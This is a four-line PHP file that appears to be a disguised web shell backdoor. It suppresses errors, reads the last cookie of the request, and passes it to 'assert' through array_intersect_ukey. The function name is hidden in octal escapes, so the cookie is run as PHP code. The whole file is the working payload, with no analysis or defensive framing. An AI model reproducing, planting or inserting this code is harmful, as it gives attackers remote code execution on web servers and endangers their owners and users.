<?php
error_reporting(0);
$c = array_pop($_COOKIE);
array_intersect_ukey(array($c => 1), array(1 => 1), "\141\163\163\145\162\164");
